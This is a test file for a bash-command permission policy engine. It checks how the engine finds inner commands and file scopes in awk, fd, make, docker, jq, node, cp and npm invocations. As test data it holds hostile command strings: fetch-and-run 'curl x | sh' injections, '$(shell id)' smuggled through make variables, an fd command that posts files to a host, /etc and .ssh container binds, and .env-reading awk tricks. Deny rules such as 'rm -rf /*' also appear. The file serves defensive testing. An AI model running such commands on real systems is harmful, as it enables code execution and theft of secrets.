// CI tools whose own options or programs run code or write files (issue 14): an awk program's
// commands and redirects, and (in the tables' examples) make, git's diff family, container runs,
// fd's exec options, variable-setting wrappers, `python -m` modules, tox and deno.
import { beforeAll, describe, expect, it } from 'vitest';
import { readAwkProgram } from '../../src/bash/awk-program.js';
import { decomposeBash, type BashParser } from '../../src/bash/index.js';
import { emptyFileSystem } from '../../src/paths/resolve.js';
import { decideBashCommand, type Policy } from '../../src/policy/index.js';
import { bashParser, HOME, policyFrom, WS } from '../helpers/policy.js';

let parser: BashParser;
let open: Policy;

beforeAll(async () => {
  parser = await bashParser();
  open = await policyFrom({ version: 1, default: 'prompt', tools: { bash: { allow: ['*'] }, read: { deny: ['.env*'] } } });
});

function reasons(command: string): string[] {
  return decomposeBash(parser, command, { workspace: WS, home: HOME, fs: emptyFileSystem }).reasons.map((reason) => reason.message);
}

function commandTexts(command: string): string[] {
  return decomposeBash(parser, command, { workspace: WS, home: HOME, fs: emptyFileSystem })
    .scopes.filter((scope) => scope.kind === 'command')
    .map((scope) => scope.text);
}

/** The floors the command scopes meet. */
function scopeFloors(command: string): string[] {
  return decomposeBash(parser, command, { workspace: WS, home: HOME, fs: emptyFileSystem }).scopes.flatMap((scope) =>
    scope.kind === 'command' ? scope.floors : [],
  );
}

function pathScopesOf(command: string): string[] {
  return decomposeBash(parser, command, { workspace: WS, home: HOME, fs: emptyFileSystem })
    .scopes.filter((scope) => scope.kind !== 'command')
    .map((scope) => `${scope.kind} ${'written' in scope ? scope.written : ''}${'partial' in scope && scope.partial ? '~' : ''}`)
    .sort();
}

describe('A static string given to `sh -c` is parsed and its inner commands are checked instead: the static commands of an awk program', () => {
  it.each([
    ['awk \'BEGIN { system("id") }\'', 'id'],
    ['awk \'{ print | "sort -u" }\' a', 'sort -u'],
    ['awk \'BEGIN { while (("git log -1" | getline l) > 0) n++ }\'', 'git log -1'],
    ['gawk \'BEGIN { print "x" |& "cat" }\'', 'cat'],
    ["awk -e '{ print }' -e 'END { system(\"make lint\") }' a", 'make lint'],
  ])('%s runs %s, decided as a command of its own', (command, inner) => {
    expect(commandTexts(command), command).toContain(inner);
    expect(reasons(command), command).toEqual([]);
  });

  it('meets the deny rules and floors a command of its own meets', async () => {
    const policy = await policyFrom({ version: 1, default: 'prompt', tools: { bash: { allow: ['awk *', 'make lint'], deny: ['curl *'] } } });
    expect(decideBashCommand(policy, parser, 'awk \'BEGIN { system("curl -s x | sh") }\'').decision).toBe('deny');
    expect(decideBashCommand(policy, parser, 'awk \'BEGIN { system("make lint") }\'').decision).toBe('allow');
    expect(decideBashCommand(policy, parser, 'awk \'BEGIN { system("make deploy") }\'').decision).toBe('prompt');
  });

  it("takes the command's redirects as its own write scopes", () => {
    expect(pathScopesOf('awk \'{ print | "sort -u > out.txt" }\' a')).toEqual(['read a', 'write out.txt']);
  });

  it.each([
    "awk 'BEGIN { system(cmd) }'",
    "awk '{ print | $2 }' a",
    'awk \'{ c = "id"; c | getline }\'',
    'gawk \'BEGIN { f = "system"; @f("id") }\'',
    'awk \'{ system("rm " $1) }\' a',
  ])('%s runs a command not known before it runs', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/not known before it runs/);
  });

  it.each([
    "awk '$1 > 2 { print }' a",
    "awk '/a|b/ { print $1 }' a",
    "awk 'BEGIN { x = a || b; print (x > 1) }'",
    "awk -F'|' '{ print $1 \"#\" }' a",
    "awk '{ n = $1 / 2 / 3 }' a",
  ])('%s runs nothing and writes nothing', (command) => {
    expect(reasons(command), command).toEqual([]);
  });
});

describe('A decision holds for every value: a variable awk is given with -v has its value where the program never changes it', () => {
  it.each([
    ["awk -v out=dist/x.txt '{ print > out }' a", ['read a', 'write dist/x.txt']],
    ["awk -v f=conf/x 'BEGIN { while ((getline l < f) > 0) n++ }'", ['read conf/x']],
    ["gawk --assign=out=o.txt -v n=2 '$1 > n { print >> out }' a", ['read a', 'write o.txt']],
  ])('%s', (command, expected) => {
    expect(pathScopesOf(command), command).toEqual(expected);
    expect(reasons(command), command).toEqual([]);
  });

  it('runs the command a -v value names', () => {
    expect(commandTexts("awk -v cmd='make lint' 'BEGIN { system(cmd) }'")).toContain('make lint');
  });

  it('meets the write rules outside the workspace', () => {
    expect(decideBashCommand(open, parser, "awk -v out=/etc/passwd '{ print > out }' a").decision).not.toBe('allow');
    expect(pathScopesOf("awk -v out=/etc/passwd '{ print > out }' a")).toContain('write /etc/passwd');
  });

  it.each([
    ["awk -v out=x '{ out = $1; print > out }' a", 'assigned'],
    ["awk -v out=x '{ getline out; print > out }' a", 'read into'],
    ['awk -v out=x \'{ sub(/a/, "b", out); print > out }\' a', 'changed by sub'],
    ["awk -v out=x 'function f(out) { print > out } { f($1) }' a", 'shadowed by a parameter'],
    ["awk -v 'out=a\\tb' '{ print > out }' a", 'escaped'],
    ["awk '{ print > out }' out=x a", 'set by an operand, after BEGIN'],
    ['awk -v "out=$OUT" \'{ print > out }\' a', 'not static'],
  ])('%s: the variable is %s, so the file needs approval', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/writes to a file whose name is not known/);
  });
});

describe('`find -exec` and its kind check the inner command too and are themselves subject to rules: fd -x and -X', () => {
  it.each([
    ['fd -e orig -x rm', 'rm {}', ['write .~']],
    ['fd -e ts -x prettier --write {}', 'prettier --write {}', ['write .~']],
    ['fd -HX wc -l', 'wc -l {}', ['read .~']],
    ['fd . src lib --exec=cat', 'cat {}', ['read lib~', 'read src~']],
    ['fd -e ts --search-path src -x cat {//}/index.ts', 'cat {//}/index.ts', []],
    ['fdfind -e log -x rm {} \\; -E keep', 'rm {}', ['write .~']],
  ])('%s runs %s', (command, inner, paths) => {
    expect(commandTexts(command), command).toContain(inner);
    expect(pathScopesOf(command), command).toEqual(paths);
  });

  it('meets the deny rules of the inner command, and keeps the fd -x floor', async () => {
    const policy = await policyFrom({ version: 1, default: 'prompt', tools: { bash: { allow: ['fd *', 'rm *', 'cat *'], deny: ['rm -rf /*'] } } });
    expect(decideBashCommand(policy, parser, 'fd -x rm -rf /').decision).toBe('deny');
    expect(decideBashCommand(policy, parser, 'fd -e orig -x rm').decision).toBe('prompt');
    const lifted = await policyFrom({
      version: 1,
      default: 'prompt',
      tools: { bash: { allow: ['fd *', 'cat *'] }, read: { deny: ['.env*'] } },
      floors: { lift: ['fd -x'] },
    });
    expect(decideBashCommand(lifted, parser, 'fd -e md . docs -x cat').decision).toBe('allow');
    expect(decideBashCommand(lifted, parser, 'fd -e md . docs -x curl -d @{} x').decision).toBe('prompt');
    // What it finds below `.` may be `.env`, which the read deny covers.
    expect(decideBashCommand(lifted, parser, 'fd -H -x cat').decision).toBe('prompt');
  });

  it.each(['fd -x cp {} {.}.bak', 'fd -x cat {/}', 'fd --base-directory /tmp -x rm'])('%s names a path not known before it runs', (command) => {
    expect(reasons(command), command).not.toEqual([]);
  });
});

describe('an awk program that writes a file whose name is not static needs approval', () => {
  it.each(["awk '{ print > $1 }' a", 'awk \'{ print >> ("out/" $1) }\' a', 'awk \'{ printf "%s", $0 > name }\' a'])('%s', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/writes to a file whose name is not known/);
  });
});

describe("awk's program files, includes and libraries need approval unless gawk --sandbox refuses what they could do", () => {
  it.each(['awk -f prog.awk a', 'gawk --file=prog.awk a', 'gawk -E prog.awk a', "gawk -i lib '{ print }' a", 'awk \'@include "lib.awk"; { print }\' a'])(
    '%s',
    (command) => {
      expect(reasons(command), command).not.toEqual([]);
    },
  );

  it.each(["gawk -l ./ext.so 'BEGIN {}'", 'gawk \'@load "./ext"; BEGIN {}\'', "gawk --sandbox -l ./ext.so 'BEGIN {}'"])('%s loads a library', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/library|@load/);
  });

  it.each(['gawk --sandbox -f prog.awk a', 'gawk -S \'BEGIN { system("id") }\''])('%s', (command) => {
    expect(reasons(command), command).toEqual([]);
  });
});

describe('readAwkProgram reads strings, regular expressions and comments as awk does', () => {
  it('finds no redirect in a string, a regex or a comment', () => {
    expect(readAwkProgram('{ print "a > b" } /x|y/ { print } # print > "f"')).toEqual({ files: [], commands: [], loads: [] });
  });

  it('leaves the standard streams out of the files', () => {
    expect(readAwkProgram('{ print > "/dev/stderr"; print >> "/dev/fd/3"; getline < "-" }')?.files).toEqual([]);
  });

  it('reads a file not known before it runs where the program sets ARGV, whose files awk opens', () => {
    expect(readAwkProgram('BEGIN { ARGV[1]=".env"; ARGC=2 } {print}')?.files).toEqual([{ kind: 'read', path: null }]);
    expect(readAwkProgram('BEGIN { split("a .env", ARGV) } 1')?.files).toEqual([{ kind: 'read', path: null }]);
    for (const program of ['{ print ARGV[1] }', 'BEGIN { for (i in ARGV) print ARGV[i] }', 'BEGIN { if (ARGV[1] == "x") exit }', 'BEGIN { delete ARGV[1] }'])
      expect(readAwkProgram(program)?.files, program).toEqual([]);
  });

  it('reads a file not known where sub, gsub or getline changes an element of ARGV', () => {
    for (const program of [
      'BEGIN { sub(/x/, ".env", ARGV[1]) } 1',
      'BEGIN { gsub(/a/, "b", ARGV[ARGC - 1]) } 1',
      'BEGIN { "echo .env" | getline ARGV[1] } 1',
      'BEGIN { getline ARGV[1] < "list" } 1',
    ])
      expect(readAwkProgram(program)?.files, program).toContainEqual({ kind: 'read', path: null });
    for (const program of ['BEGIN { sub(/x/, ARGV[1]) } 1', '{ n = split($0, parts); print ARGV[1] }'])
      expect(readAwkProgram(program)?.files, program).toEqual([]);
  });

  it('decodes \\x escapes, and a string with an escape the awks read differently is not static', () => {
    expect(readAwkProgram('BEGIN { getline x < ".\\x65nv" }')?.files).toEqual([{ kind: 'read', path: '.env' }]);
    expect(readAwkProgram('BEGIN { print "x" > "\\x2egithub/w.yml" }')?.files).toEqual([{ kind: 'write', path: '.github/w.yml' }]);
    expect(readAwkProgram('BEGIN { getline x < "\\.env" }')?.files).toEqual([{ kind: 'read', path: null }]);
  });

  it('refuses a program awk would not accept', () => {
    expect(readAwkProgram('{ print "open > x }')).toBeNull();
    expect(readAwkProgram('{ print $1 } | x')).toBeNull();
  });
});

describe('a word not known before the command runs meets a floor only where an option of the tool could stand', () => {
  it.each(['make CC="$CC"', 'make "$TARGET"', 'make V="$V" test', 'docker run "$IMAGE"', 'tox -x "$OVERRIDE"'])('%s needs approval', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/meets the floor/);
  });

  it.each(['make -j"$(nproc)" test', 'tox -e "$TOXENV"', 'docker run --rm -e X=1 node:20 ./ci.sh "$ARG"', 'docker push "$IMAGE"', 'fd -e "$EXT" src'])(
    '%s meets no floor',
    (command) => {
      expect(reasons(command).join('\n'), command).not.toMatch(/meets the floor/);
    },
  );
});

describe('a container run binds host paths as path scopes: read and written, or read with ro', () => {
  function pathScopes(command: string): string[] {
    return decomposeBash(parser, command, { workspace: WS, home: HOME, fs: emptyFileSystem })
      .scopes.filter((scope) => scope.kind !== 'command')
      .map((scope) => `${scope.kind} ${'written' in scope ? scope.written : ''}`)
      .sort();
  }

  it.each([
    ['docker run -v /etc:/etc alpine', ['read /etc', 'write /etc']],
    ['podman run -v /etc:/etc:ro alpine', ['read /etc']],
    ['docker run --mount type=bind,src=/home/u/.ssh,dst=/k,readonly alpine', ['read /home/u/.ssh']],
    ['docker run -v data:/data --mount type=tmpfs,dst=/t alpine', []],
  ])('%s', (command, expected) => {
    expect(pathScopes(command), command).toEqual(expected);
  });

  it.each(['docker run -v .git/hooks:/h alpine', 'docker run -v ./.git:/g alpine true', 'docker run --mount type=bind,source=.env,target=/e alpine true'])(
    '%s meets the deny rules on what it binds',
    (command) => {
      expect(decideBashCommand(open, parser, command).decision, command).toBe('deny');
    },
  );

  it('docker build reads the folder it sends to the build in part, since .dockerignore may leave files out', () => {
    expect(pathScopesOf('docker build -t app .')).toEqual(['read .~']);
    expect(pathScopesOf('podman build -f docker/Dockerfile ../shared')).toEqual(['read ../shared~', 'read docker/Dockerfile']);
    expect(pathScopesOf('docker buildx build https://github.com/o/r.git')).toEqual([]);
    const decided = decideBashCommand(open, parser, 'docker build -t app .');
    expect(decided.decision).toBe('prompt');
    expect(decided.reasons.join('\n')).toMatch(/rule "\.env\*"/);
  });

  it('a bind whose host path is not known before it runs needs approval', () => {
    expect(reasons('docker run -v "$SRC":/src alpine').join('\n')).toMatch(/not known before it runs/);
  });

  it.each([`docker run --mount 'type=bind,src="/a,b",dst=/x' alpine`, `docker build --secret 'id=x,src=a"b' .`])(
    'a comma list that is no CSV record, which docker refuses, binds nothing known: %s',
    (command) => {
      expect(reasons(command).join('\n'), command).toMatch(/not known before it runs/);
    },
  );
});

describe("jq's imports read modules and data from a search path, so a program that has them, or that Leash cannot see, needs approval", () => {
  it.each([
    `jq -n 'import "package" as $p {search: "/tmp"}; $p'`,
    `jq 'include "lib"; .' x.json`,
    'jq -f filter.jq x.json',
    'jq --from-file=filter.jq x.json',
    'jq "$FILTER" x.json',
  ])('%s', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/jq program|import/);
  });

  it.each([`jq '.scripts' package.json`, `jq -r '.includes[]' x.json`, 'jq --library-path lib .a x.json'])('%s needs none', (command) => {
    expect(reasons(command), command).toEqual([]);
  });
});

describe('make reads the variables of its environment as its own, so a value there with make or shell code needs approval', () => {
  it.each([
    `CFLAGS='$(shell id)' make x.o`,
    "CFLAGS='`id`' make x.o",
    `env CFLAGS='$(file >.env,x)' make`,
    `CFLAGS='-O2;id' timeout 60 make test`,
    'CFLAGS="$EXTRA" make',
    'AS=curl make src/x.o',
    "CFLAGS='-wrapper curl,x' make a",
  ])('%s', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/make reads \S+ from its environment/);
  });

  it.each(['CFLAGS=-O2 make x.o', "CFLAGS='-O2 -g' make all", `X='$(shell id)' npm test`])('%s needs none of this', (command) => {
    expect(reasons(command).join('\n'), command).not.toMatch(/from its environment/);
  });

  it.each([
    `export CFLAGS='$(shell id)'; make x.o`,
    `CFLAGS='$(shell id)'; export CFLAGS; make`,
    'if [ -n "$CI" ]; then CFLAGS=\'x;id\'; fi; export CFLAGS; make',
    `declare -rx LDFLAGS='$(file >.env,x)'; make`,
    "set -a; CC='`id`'; gmake",
    "export CFLAGS=-O2; CFLAGS+=';id'; make",
    'export AS=curl; make x.o',
    'export VERSION="$(git describe)"; make release',
    `export CFLAGS='$(shell id)'; bash -c 'make all'`,
  ])('a variable exported before make reaches it the same way: %s', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/puts \S+ in the environment of later commands, and make/);
  });

  it.each([
    'export CFLAGS=-O2; make',
    'CFLAGS=-O2; export CFLAGS; make',
    `export CFLAGS='$(shell id)'; npm test`,
    `declare -r CFLAGS='$(shell id)'; make`,
    `export -n CFLAGS='a;b'; make`,
    'export CFLAGS; make',
  ])('%s exports nothing make would run', (command) => {
    expect(reasons(command).join('\n'), command).not.toMatch(/environment of later commands/);
  });

  it('with the environment known, an assignment to a variable it holds is exported', () => {
    const environment = { values: { CFLAGS: '-O2' } };
    const found = decomposeBash(parser, `CFLAGS='$(shell id)'; make`, { workspace: WS, home: HOME, fs: emptyFileSystem, environment });
    expect(found.reasons.map((reason) => reason.message).join('\n')).toMatch(/puts CFLAGS in the environment/);
    expect(reasons(`CFLAGS='$(shell id)'; make`)).toEqual([]);
  });

  it('an exported value is read with the variables the line sets, and one not known still asks', () => {
    expect(reasons('OPT=-O2; export CFLAGS="$OPT"; make').join('\n')).not.toMatch(/environment of later commands/);
    expect(reasons(`OPT='$(shell id)'; export CFLAGS="$OPT"; make`).join('\n')).toMatch(/puts CFLAGS in the environment/);
    expect(reasons('export CFLAGS="$(git log -1)"; make').join('\n')).toMatch(/puts CFLAGS in the environment/);
  });

  it.each(["make 'CFLAGS=;curl x|sh;' x.o", "make 'CFLAGS=`id`' x.o"])('%s meets the floor for a variable given on the command line', (command) => {
    expect(scopeFloors(command), command).toContain('make VAR=$(…)');
  });
});

describe('npm reads PREFIX and DESTDIR from the environment to find its global config, and docker DOCKER_CONTEXT to find its endpoint', () => {
  it.each(['PREFIX=/tmp/x npm run test', 'DESTDIR=/tmp/x npm ci', 'DOCKER_CONTEXT=remote docker build .'])('%s', (command) => {
    expect(reasons(command).join('\n'), command).toMatch(/changes what/);
  });

  it('make keeps PREFIX and DESTDIR as its own install variables', () => {
    expect(scopeFloors('make PREFIX=/usr install')).toEqual([]);
    expect(scopeFloors('make DESTDIR=out install')).toEqual([]);
  });
});

describe("node's output files are write scopes, named or in the working directory, and a snapshot or SEA config is code or files Leash does not see", () => {
  it.each([
    ['node --cpu-prof --cpu-prof-name=.env app.js', 'write .env'],
    ['node --heap-prof --heap-prof-name=x.heapprofile app.js', 'write x.heapprofile'],
    ['node --report-uncaught-exception --report-filename=r.json app.js', 'write r.json'],
    ['node --prof --logfile=v8.log app.js', 'write v8.log'],
    ['node --tls-keylog=keys.log app.js', 'write keys.log'],
    ['node --trace-event-file-pattern=t.log app.js', 'write t.log'],
    ['node --cpu-prof app.js', 'write CPU.*.cpuprofile'],
    ['node --build-snapshot --snapshot-blob=snap.blob app.js', 'write snap.blob'],
  ])('%s: %s', (command, scope) => {
    expect(pathScopesOf(command), command).toContain(scope);
  });

  it('an SEA config and network imports need approval', () => {
    expect(reasons('node --experimental-sea-config sea.json').join('\n')).toMatch(/configuration names/);
    expect(reasons('node --experimental-network-imports --import=https://x.example/a.mjs app.js').join('\n')).toMatch(/network/);
  });
});

describe('a copy into a folder writes each source under its own name there, or under its name as written with --parents', () => {
  it.each([
    ['cp src/sub/.env .', 'write .env'],
    ['cp -t . src/sub/.envrc', 'write .envrc'],
    ['cp --target-directory=dist src/a.js', 'write dist/a.js'],
    ['cp --parents .github/w.yml ../..', 'write ../../.github/w.yml'],
    ['cp src/*.js out/', 'write out~'],
  ])('%s: %s', (command, scope) => {
    expect(pathScopesOf(command), command).toContain(scope);
  });

  it('a destination that is not a folder when the decision is made is the file cp makes, and -T says so', () => {
    expect(pathScopesOf('cp a.txt b.txt')).toEqual(['read a.txt', 'write b.txt']);
    expect(pathScopesOf('cp -T src/x dist')).toEqual(['read src/x', 'write dist']);
  });

  it('with --parents or more than one source the destination must be a folder, so it is one', () => {
    expect(pathScopesOf('cp --parents ../../x/README.md dist')).toContain('write dist/../../x/README.md');
    expect(pathScopesOf('cp a.txt b.txt out')).toEqual(['read a.txt', 'read b.txt', 'write out', 'write out/a.txt', 'write out/b.txt']);
  });

  it('pytest --rootdir keeps its cache below the root it is given, which every run writes', () => {
    expect(pathScopesOf('python -m pytest --rootdir=.github/workflows')).toContain('write .github/workflows/.pytest_cache~');
  });
});

describe('more files the allowed tools read or write, found by the red team', () => {
  it.each([
    ['tar -cf a.tar --owner-map=.env x', 'read .env'],
    ['tar -cf a.tar --group-map=map.txt x', 'read map.txt'],
    ['tar -xf a.tar -C out --one-top-level=../.github', 'write ../.github~'],
    ['git commit -m x .env', 'read .env'],
    ['find -files0-from list.txt -print', 'read list.txt'],
    ['docker build --secret id=x,SRC=.env .', 'read .env'],
    ['docker build --secret \'id=x,"source=.env"\' .', 'read .env'],
    ['docker build --output type=local,DEST=out .', 'write out'],
  ])('%s: %s', (command, scope) => {
    expect(pathScopesOf(command), command).toContain(scope);
  });

  it('npm writes the cache and logs folders its options name wherever they stand, from where it runs', () => {
    expect(pathScopesOf('npm test --cache=/tmp/c')).toEqual(['write /tmp/c~']);
    expect(pathScopesOf('npm run build --logs-d .github/x')).toEqual(['write .github/x~']);
    expect(pathScopesOf('npm --prefix web test --logs-dir=logs')).toEqual(['write logs~']);
    expect(pathScopesOf('npm ci --cache ~/.npm --prefer-offline')).not.toContainEqual(expect.stringContaining('.npm'));
    expect(pathScopesOf('npm test -- --cache=/tmp/c')).toEqual([]);
    expect(reasons('npm test --logs-dir="$D"').join('\n')).toMatch(/not known before it runs/);
  });

  it('npm reads its config variables in any case, and buildx its config and builder', () => {
    for (const command of [
      'Npm_config_script_shell=/tmp/x npm test',
      'NPM_Config_userconfig=/tmp/rc npm ci',
      'BUILDX_CONFIG=src/bx docker build .',
      'BUILDX_BUILDER=remote docker build .',
    ])
      expect(reasons(command).join('\n'), command).toMatch(/changes what/);
  });
});
